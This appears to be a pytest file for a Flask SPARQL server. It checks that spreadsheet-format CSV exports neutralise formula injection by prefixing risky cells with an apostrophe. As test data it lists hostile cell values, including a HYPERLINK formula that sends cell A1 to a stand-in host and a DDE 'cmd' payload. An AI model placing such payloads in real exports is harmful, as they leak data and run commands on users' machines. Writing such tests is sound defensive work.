"""CSV that a spreadsheet opens: no cell is a formula."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from server.sparql.cells import as_text, guarded

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    """Also one behind blanks, or in full width."""
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "-3", "+4.5", "-1e9", ".5", "a=b", "http://x.example", "’"])
def test_numbers_and_other_texts_stay_as_they_are(cell: str) -> None:
    """A longitude in the west is still a number."""
    assert as_text(cell) == cell


@given(st.lists(st.lists(st.text(), min_size=2, max_size=3), max_size=5))
def test_a_table_keeps_its_cells(rows: list[list[str]]) -> None:
    """Whatever is in them; only the apostrophe is new."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    raw = text.getvalue().encode(errors="replace")
    before = csv.reader(io.StringIO(raw.decode(), newline=""))
    after = csv.reader(io.StringIO(guarded(raw).decode(), newline=""))
    assert list(after) == [[as_text(cell) for cell in row] for row in before]


def test_a_query_and_a_list_come_for_spreadsheets(client: FlaskClient) -> None:
    """By `format=spreadsheet`; the W3C's CSV is not touched."""
    query = "SELECT (?x AS ?y) { VALUES ?x { '=1+1' '-2' 'dock' } } ORDER BY ?y"
    address = f"/sparql?{urlencode({'query': query})}&format="
    kept = client.get(address + "csv").text.split()
    told = client.get(address + "spreadsheet")
    assert kept == ["y", "-2", "=1+1", "dock"]
    assert told.text.split() == ["y", "-2", "'=1+1", "dock"]
    assert "attachment" in told.headers["Content-Disposition"]
    shown = client.get("/statements?format=spreadsheet", follow_redirects=True)
    assert shown.content_type.startswith("text/csv") and "dock workers" in shown.text
    refused = client.get("/sparql?query=SELEC&format=spreadsheet")
    assert refused.status_code == 400
    assert client.get("/sparql?query=ASK%20%7B%7D&format=spreadsheet").status_code == 200
